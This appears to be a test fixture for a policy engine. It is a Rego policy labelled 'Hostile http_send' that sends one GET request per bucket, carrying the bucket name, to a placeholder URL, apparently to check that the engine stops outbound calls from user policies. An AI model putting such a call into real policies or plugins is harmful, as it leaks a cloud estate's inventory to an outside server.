package hostile.http_send

# METADATA
# title: Hostile http_send
# description: A user policy that tries to send the estate to a server (one GET per bucket).
# custom:
#   id: HOSTILE-1
#   severity: low
#   resource_type: bucket
#   remediation: {text: none, cli: none}
#   controls: [{framework: Test, version: "1", id: "0", title: none}]
deny contains {"rule": rego.metadata.rule().custom.id, "resource": {"type": "bucket", "bucket": input.bucket.name}, "message": "sent"} if {
	resp := http.send({"method": "GET", "url": sprintf("{{URL}}/%s", [input.bucket.name])})
	resp.status_code == 200
}
